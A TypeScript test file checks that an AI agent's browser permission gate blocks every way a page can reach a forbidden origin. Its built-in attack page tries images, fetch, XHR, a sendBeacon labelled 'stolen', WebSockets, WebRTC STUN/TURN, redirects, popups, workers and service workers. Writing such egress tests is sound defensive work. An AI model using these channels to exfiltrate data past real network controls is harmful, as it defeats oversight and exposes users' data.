import { createSocket, type Socket } from "node:dgram";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AuditEntry, AuditLog, Gate } from "@worksite/core";
import { browserGate, callOk, countingServer, tempDir, waitUntil, type CountingServer } from "../test/helpers.js";

/**
 * Issue 11, item 6: a page on an allowed origin tries every way it has to
 * reach a forbidden one. The forbidden server counts what reaches it.
 */
let allowed: CountingServer;
let forbidden: CountingServer;
/** UDP on the forbidden host's port: where WebRTC's STUN and TURN would go. */
let forbiddenUdp: Socket;
let udpPackets = 0;
let worksite: { path: string; remove(): Promise<void> };
let gate: Gate;
let audit: AuditLog;
let permissions: string;

const js = (body: string) => (_req: unknown, res: import("node:http").ServerResponse) => {
  res.writeHead(200, { "content-type": "text/javascript" }).end(body);
};

function attackPage(f: string, a: string): string {
  const fws = f.replace(/^http/, "ws");
  const aws = a.replace(/^http/, "ws");
  return `<!doctype html><html><head><title>Attack</title>
<link rel="stylesheet" href="${f}/style.css">
<link rel="prefetch" href="${f}/prefetch">
</head><body>
<img src="${f}/pixel.png" alt="">
<iframe src="${f}/frame" title="frame"></iframe>
<a id="blank" href="${f}/blank-link" target="_blank">new tab</a>
<script>
const settled = [];
const host = new URL("${f}").host;
const rtc = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + host }, { urls: "turn:" + host + "?transport=udp", username: "u", credential: "p" }] });
rtc.createDataChannel("leak");
settled.push(rtc.createOffer().then((o) => rtc.setLocalDescription(o)).then(() => new Promise((r) => {
  if (rtc.iceGatheringState === "complete") r("rtc gathered");
  rtc.onicegatheringstatechange = () => { if (rtc.iceGatheringState === "complete") r("rtc gathered"); };
})));
settled.push(new Promise((r) => { const img = new Image(); img.onload = () => r("redirected img reached"); img.onerror = () => r("redirected img refused"); img.src = "/bounce"; }));
settled.push(fetch("/echo", { method: "POST", body: "hello through the proxy" }).then((r) => r.text()).then((t) => "post " + t, () => "post failed"));
settled.push(fetch("/private/data").then(() => "private reached", () => "private refused"));
settled.push(fetch("${f}/fetch", { mode: "no-cors" }).then(() => "fetch reached", () => "fetch refused"));
settled.push(new Promise((r) => { const x = new XMLHttpRequest(); x.open("GET", "${f}/xhr"); x.onload = () => r("xhr reached"); x.onerror = x.onabort = () => r("xhr refused"); x.send(); }));
navigator.sendBeacon("${f}/beacon", "stolen");
settled.push(new Promise((r) => { const ws = new WebSocket("${fws}/socket"); ws.onopen = () => r("ws reached"); ws.onerror = ws.onclose = () => r("ws refused"); }));
settled.push(new Promise((r) => { const ws = new WebSocket("${aws}/own-socket"); ws.onopen = () => { r("own ws open"); ws.close(); }; ws.onerror = () => r("own ws refused"); }));
settled.push(new Promise((r) => { const es = new EventSource("${f}/events"); es.onopen = () => r("es reached"); es.onerror = () => { es.close(); r("es refused"); }; }));
settled.push(new Promise((r) => { const w = new Worker("/worker.js"); w.onmessage = (e) => r(e.data); }));
settled.push(navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then((reg) => new Promise((r) => {
  navigator.serviceWorker.onmessage = (e) => r(e.data);
  reg.active.postMessage("go");
})));
window.open("${f}/popup");
document.getElementById("blank").click();
Promise.all(settled).then((results) => { const p = document.createElement("p"); p.textContent = "RESULTS " + JSON.stringify(results); document.body.append(p); });
</script></body></html>`;
}

beforeAll(async () => {
  forbidden = await countingServer();
  forbiddenUdp = createSocket("udp4");
  forbiddenUdp.on("message", () => {
    udpPackets++;
  });
  await new Promise<void>((resolve) => forbiddenUdp.bind(Number(new URL(forbidden.origin).port), "127.0.0.1", resolve));
  allowed = await countingServer(
    {
      "/attack": (_req, res) => {
        res.writeHead(200, { "content-type": "text/html" }).end(attackPage(forbidden.origin, allowed.origin));
      },
      // An allowed address that redirects a subresource to the forbidden origin.
      "/bounce": (_req, res) => {
        res.writeHead(302, { location: `${forbidden.origin}/bounced.png` }).end();
      },
      "/echo": (req, res) => {
        const chunks: Buffer[] = [];
        req.on("data", (c: Buffer) => chunks.push(c));
        req.on("end", () => {
          res.writeHead(200, { "content-type": "text/plain" }).end(`echo: ${Buffer.concat(chunks).toString()}`);
        });
      },
      "/page": (_req, res) => {
        res
          .writeHead(200, { "content-type": "text/html" })
          .end(`<!doctype html><title>Plain</title><h1>Plain page</h1>`);
      },
      "/worker.js": js(`Promise.all([
      fetch("${forbidden.origin}/from-worker").then(() => "worker fetch reached", () => "worker fetch refused"),
      new Promise((r) => { const ws = new WebSocket("${forbidden.origin.replace(/^http/, "ws")}/worker-socket"); ws.onopen = () => r("worker ws reached"); ws.onerror = ws.onclose = () => r("worker ws refused"); }),
    ]).then((v) => postMessage(v.join(",")));`),
      "/sw.js": js(`self.addEventListener("install", () => self.skipWaiting());
      self.addEventListener("activate", (e) => e.waitUntil(clients.claim()));
      self.addEventListener("message", (e) => e.waitUntil(fetch("${forbidden.origin}/from-service-worker", { mode: "no-cors" })
        .then(() => "sw fetch reached", () => "sw fetch refused").then((v) => e.source.postMessage(v))));`),
    },
    { acceptWebSockets: true },
  );
  worksite = await tempDir();
  permissions = [
    "# Permissions",
    "",
    "## Allow",
    `- \`browser.*(${allowed.origin}/**)\``,
    "",
    "## Forbidden",
    `- \`browser.*(${forbidden.origin}/**)\``,
    // A path rule holds too: requests are decided by their whole URL, not only their origin.
    `- \`browser.*(${allowed.origin}/private/**)\``,
    "",
  ].join("\n");
  ({ gate, audit } = await browserGate(worksite.path, permissions, "run-guard"));
});

afterAll(async () => {
  await gate?.dispose();
  await allowed?.close();
  await forbidden?.close();
  forbiddenUdp?.close();
  await worksite?.remove();
});

interface Tally {
  origin: string;
  count: number;
  types: Record<string, number>;
}

function summaries(entries: AuditEntry[]): Tally[] {
  return entries
    .filter((e) => e.type === "navigation" && e.outcome === "blocked" && Array.isArray(e.data?.blocked))
    .flatMap((e) => e.data!.blocked as Tally[]);
}

function typesFor(entries: AuditEntry[], origin: string): Record<string, number> {
  const out: Record<string, number> = {};
  for (const t of summaries(entries).filter((s) => s.origin === origin)) {
    for (const [k, n] of Object.entries(t.types)) out[k] = (out[k] ?? 0) + n;
  }
  return out;
}

describe("every request a page makes goes through the origin rules", () => {
  it("blocks img, css, prefetch, fetch, XHR, beacon, EventSource, WebSockets, WebRTC, redirects, popups, iframes, workers and service workers to a forbidden origin before any byte leaves", async () => {
    let calls = 0;
    const told: string[] = [];
    const call = async (tool: string, input: unknown) => {
      calls++;
      const outcome = await callOk(gate, tool, input);
      told.push(outcome.result.content);
      return outcome;
    };

    await call("browser.open", { url: `${allowed.origin}/attack` });
    await call("browser.wait-for", { text: "RESULTS", timeoutMs: 60_000 });
    // WebSockets and other connections no page request preceded are tallied by host:port.
    const fws = forbidden.origin.replace(/^http:\/\//, "");
    // The beacon and the popups give the page no answer: wait until the guard has reported them.
    const entries = await waitUntil(async () => {
      await call("browser.wait-for", { time: 0.1 });
      const all = await audit.entries();
      const types = typesFor(all, forbidden.origin);
      const popups = all.filter(
        (e) => e.type === "navigation" && e.outcome === "blocked" && /\/(popup|blank-link)$/.test(e.target ?? ""),
      );
      return types.Ping && popups.length >= 2 && (typesFor(all, fws).Connection ?? 0) >= 2 ? all : undefined;
    }, "the beacon, both popups and both sockets to be reported");

    expect(forbidden.requests).toEqual([]);
    expect(forbidden.upgrades).toEqual([]);
    // Not even a connection: Chromium's only way out is the plugin's proxy, so no preconnect reaches the host either.
    expect(forbidden.connections()).toBe(0);
    // WebRTC may only speak through the proxy: no STUN or TURN packet reached the host over UDP.
    expect(udpPackets).toBe(0);

    // What the page itself saw: every attempt failed, its own socket opened.
    const read = (await call("browser.read", {})).result.content;
    for (const seen of [
      "fetch refused",
      "xhr refused",
      "ws refused",
      "own ws open",
      "es refused",
      "worker fetch refused,worker ws refused",
      "sw fetch refused",
      "rtc gathered",
      "redirected img refused",
      "private refused",
      "post echo: hello through the proxy",
    ]) {
      expect(read).toContain(seen);
    }
    const types = typesFor(entries, forbidden.origin);
    expect(Object.keys(types)).toEqual(expect.arrayContaining(["Image", "Stylesheet", "Ping"]));
    // Chromium files fetch, XHR, EventSource and the workers' fetches under XHR, the prefetch under Fetch.
    expect((types.XHR ?? 0) + (types.Fetch ?? 0)).toBeGreaterThanOrEqual(5);
    expect(typesFor(entries, fws).Connection).toBeGreaterThanOrEqual(2); // the page's WebSocket and the worker's
    // Popups and the iframe are navigations: each is decided and audited on its own, by the forbidden rule.
    for (const path of ["/popup", "/blank-link", "/frame"]) {
      expect(entries).toContainEqual(
        expect.objectContaining({
          type: "navigation",
          target: `${forbidden.origin}${path}`,
          outcome: "blocked",
          tier: "forbidden",
        }),
      );
    }
    // Allowed traffic still flows: the page's own WebSocket opened, its worker and service worker loaded.
    expect(allowed.upgrades).toContain("GET /own-socket");
    expect(allowed.requests).toEqual(expect.arrayContaining(["GET /attack", "GET /worker.js", "GET /sw.js"]));
    expect(allowed.requests).not.toContain("GET /private/data");
    expect(typesFor(entries, allowed.origin)).toMatchObject({ XHR: 1 });
    // The agent is told too, in the result of the call during which it happened.
    expect(told.join("\n")).toMatch(
      new RegExp(
        `Blocked \\d+ requests? the page made on its own:\\n  ${forbidden.origin.replace(/[.]/g, "\\.")}: \\d+`,
      ),
    );
    // One summary entry per call at most: the log holds counts, not one line per image.
    const summaryEntries = entries.filter((e) => e.type === "navigation" && Array.isArray(e.data?.blocked));
    expect(summaryEntries.length).toBeGreaterThan(0);
    expect(summaryEntries.length).toBeLessThanOrEqual(calls);
  }, 90_000);

  it("does not run browser.evaluate where only a browser.* rule allows the page", async () => {
    await callOk(gate, "browser.open", { url: `${allowed.origin}/page` });
    allowed.requests.length = 0;
    const outcome = await gate.call({
      tool: "browser.evaluate",
      input: { function: "() => { document.title = 'ran'; return fetch('/evaluated').then(() => 1); }" },
    });
    expect(outcome.status).toBe("pending-approval");
    expect(outcome.decision?.tier).toBe("confirm");
    const tabs = await callOk(gate, "browser.tabs", { action: "list" });
    expect(tabs.result.content).toContain("Plain");
    expect(tabs.result.content).not.toContain("ran");
    expect(allowed.requests).not.toContain("GET /evaluated");
  });
});
